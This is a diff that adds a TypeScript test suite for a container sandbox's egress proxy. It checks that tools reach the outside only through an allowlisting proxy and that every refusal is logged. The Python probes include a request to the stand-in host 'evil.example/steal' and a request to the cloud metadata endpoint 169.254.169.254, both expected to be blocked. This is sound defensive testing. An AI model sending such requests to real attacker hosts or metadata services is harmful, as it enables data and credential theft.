@@ -1,0 +1,198 @@
+/**
+ * Egress of networked container tools (SPEC §4, §5), proven from inside a
+ * real container on warden's internal network: the only way out is the
+ * egress proxy, which applies the same authorizeEgress rule as ctx.fetch.
+ *
+ * Every target here is on this machine: a host service listening on ALL
+ * interfaces (0.0.0.0), reached — or not — through the host's own addresses.
+ */
+import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { createServer, type Server } from "node:http";
+import { networkInterfaces } from "node:os";
+import { after, before, describe, test } from "node:test";
+import { createContainerExecutor } from "../../../sandboxes/container/index.js";
+import type { Executor, SandboxTool } from "../../../sandboxes/executor.js";
+import type { EgressRecord, NetworkGrant } from "../../../src/capabilities/types.js";
+import { docker, fixtureTool, probe, requireDocker } from "./fixture.js";
+
+const HTTP_GET = `
+import urllib.request, urllib.error
+def get(url):
+    try:
+        r = urllib.request.urlopen(url, timeout=5)
+        return [r.status, r.read().decode()]
+    except urllib.error.HTTPError as e:
+        return [e.code, e.read().decode()]
+    except Exception as e:
+        return ['error', str(e)]
+`;
+
+const TUNNEL_GET = `
+import http.client, urllib.parse
+def tunnel_get(host, port):
+    p = urllib.parse.urlparse(os.environ['HTTP_PROXY'])
+    c = http.client.HTTPConnection(p.hostname, p.port, timeout=5)
+    c.set_tunnel(host, port)
+    try:
+        c.request('GET', '/through-tunnel')
+        r = c.getresponse()
+        return [r.status, r.read().decode()]
+    except OSError as e:
+        return ['error', str(e)]
+`;
+
+/** This host's own IPv4 addresses (docker0, bridges, the host's interface), loopback excluded. */
+function hostAddresses(): string[] {
+  return Object.values(networkInterfaces())
+    .flat()
+    .filter((i) => i && i.family === "IPv4" && !i.internal)
+    .map((i) => i!.address);
+}
+
+describe("egress of networked container tools", () => {
+  const serverId = `egress${process.pid}`;
+  const grants = new Map<string, NetworkGrant[]>();
+  const records: Array<{ callId: string; record: EgressRecord }> = [];
+  let executor: Executor;
+  let hostService: Server;
+  let hostPort = 0;
+  let hostHits = 0;
+
+  const netTool = (name: string, toolGrants: NetworkGrant[]): SandboxTool => {
+    grants.set(name, toolGrants);
+    return fixtureTool("probe", { name, network: true });
+  };
+
+  before(async () => {
+    hostService = createServer((req, res) => {
+      hostHits += 1;
+      res.end(`host service saw ${req.method} ${req.url}`);
+    });
+    await new Promise<void>((resolve) => hostService.listen(0, "0.0.0.0", resolve));
+    hostPort = (hostService.address() as { port: number }).port;
+    executor = createContainerExecutor({
+      docker,
+      serverId,
+      poolSize: 0,
+      reapIntervalMs: 0,
+      networkGrantsFor: (tool) => grants.get(tool.name) ?? [],
+      onEgress: (callId, record) => void records.push({ callId, record }),
+    });
+  });
+
+  after(async () => {
+    await executor.close();
+    hostService.closeAllConnections();
+    await new Promise<void>((resolve) => hostService.close(() => resolve()));
+  });
+
+  test("direct TCP to the host's addresses fails; only the proxy port on the gateway answers", async (t) => {
+    if (!(await requireDocker(t))) return;
+    const targets = hostAddresses();
+    assert.ok(targets.includes("172.17.0.1") || targets.length > 0, "the host has addresses to probe");
+    const result = (await probe(
+      executor,
+      `
+import socket, errno, urllib.parse
+proxy = urllib.parse.urlparse(os.environ['HTTP_PROXY'])
+def reach(addr, port):
+    try:
+        socket.create_connection((addr, port), timeout=3).close(); return 'connected'
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e)) if e.errno else 'timeout'
+result = {'gateway': proxy.hostname,
+          'hostService': {a: reach(a, input['port']) for a in input['targets'] + [proxy.hostname]},
+          'proxy': reach(proxy.hostname, proxy.port)}`,
+      netTool("net_reach", []),
+      { input: { targets, port: hostPort } },
+    )) as { gateway: string; hostService: Record<string, string>; proxy: string };
+    assert.equal(result.proxy, "connected", "the egress proxy is reachable on the gateway");
+    for (const [address, outcome] of Object.entries(result.hostService))
+      assert.notEqual(outcome, "connected", `host service on 0.0.0.0 reached through ${address}`);
+    assert.ok(Object.keys(result.hostService).includes(result.gateway));
+    assert.equal(hostHits, 0);
+  });
+
+  test("no name resolves from inside the container", async (t) => {
+    if (!(await requireDocker(t))) return;
+    const result = await probe(
+      executor,
+      `
+import socket
+try:
+    socket.getaddrinfo('example.com', 443); result = 'resolved'
+except socket.gaierror as e:
+    result = 'refused'`,
+      netTool("net_dns", [{ pattern: "example.com", allowPrivate: false }]),
+    );
+    assert.equal(result, "refused");
+  });
+
+  test("the proxy refuses a host outside the allowlist, for plain HTTP and for CONNECT", async (t) => {
+    if (!(await requireDocker(t))) return;
+    const tool = netTool("net_not_allowed", [{ pattern: "api.example.com", allowPrivate: false }]);
+    const result = (await probe(
+      executor,
+      `${HTTP_GET}${TUNNEL_GET}
+result = {'http': get('http://evil.example/steal'), 'connect': tunnel_get('evil.example', 443)}`,
+      tool,
+    )) as { http: [number, string]; connect: [string, string] };
+    assert.equal(result.http[0], 403);
+    assert.match(result.http[1], /evil\.example/);
+    assert.match(result.connect[1], /403/);
+    const mine = records.filter((r) => r.record.host === "evil.example");
+    assert.equal(mine.length, 2);
+    assert.ok(mine.every((r) => r.record.denied && r.record.status === null));
+    assert.deepEqual(mine.map((r) => r.record.method).sort(), ["CONNECT", "GET"]);
+  });
+
+  test("the proxy refuses a private address unless the operator allowed it (no allowPrivate)", async (t) => {
+    if (!(await requireDocker(t))) return;
+    const before = hostHits;
+    const tool = netTool("net_private", [
+      { pattern: `http://127.0.0.1:${hostPort}`, allowPrivate: false },
+      { pattern: "http://169.254.169.254", allowPrivate: false },
+    ]);
+    const result = (await probe(
+      executor,
+      `${HTTP_GET}
+result = {'loopback': get('http://127.0.0.1:${hostPort}/'), 'metadata': get('http://169.254.169.254/latest/meta-data/')}`,
+      tool,
+    )) as Record<string, [number, string]>;
+    assert.equal(result.loopback![0], 403);
+    assert.equal(result.metadata![0], 403);
+    assert.equal(hostHits, before, "the host service was never contacted");
+  });
+
+  test("the proxy forwards to an allowed host (allowPrivate grant) and reports each exchange", async (t) => {
+    if (!(await requireDocker(t))) return;
+    const tool = netTool("net_allowed", [
+      { pattern: `http://127.0.0.1:${hostPort}`, allowPrivate: true },
+      { pattern: `127.0.0.1:${hostPort}`, allowPrivate: true },
+    ]);
+    const result = (await probe(
+      executor,
+      `${HTTP_GET}${TUNNEL_GET}
+result = {'http': get('http://127.0.0.1:${hostPort}/via-proxy'), 'connect': tunnel_get('127.0.0.1', ${hostPort})}`,
+      tool,
+    )) as { http: [number, string]; connect: [number, string] };
+    assert.deepEqual(result.http, [200, "host service saw GET /via-proxy"]);
+    assert.deepEqual(result.connect, [200, "host service saw GET /through-tunnel"]);
+    const mine = records.filter((r) => r.record.host === "127.0.0.1" && r.record.status === 200);
+    assert.deepEqual(mine.map((r) => r.record.method).sort(), ["CONNECT", "GET"]);
+    assert.ok(mine.every((r) => r.record.port === hostPort && r.record.bytes > 0 && !r.record.denied));
+  });
+
+  test("firewall rules and the egress network exist while serving and are removed on close", async (t) => {
+    if (!(await requireDocker(t))) return;
+    const own = createContainerExecutor({ docker, serverId: `${serverId}b`, poolSize: 0, reapIntervalMs: 0 });
+    await probe(own, "result = 1", { name: "net_close", network: true });
+    const rules = (): string[] => execFileSync("iptables", ["-w", "5", "-S"], { encoding: "utf8" }).split("\n").filter((l) => l.includes(`warden:${serverId}b`));
+    assert.ok(rules().length >= 2, "INPUT rules for the bridge are installed");
+    assert.equal((await docker.listNetworks({ filters: { name: [`warden-egress-${serverId}b`] } })).length, 1);
+    await own.close();
+    assert.deepEqual(rules(), []);
+    assert.equal((await docker.listNetworks({ filters: { name: [`warden-egress-${serverId}b`] } })).length, 0);
+  });
+});
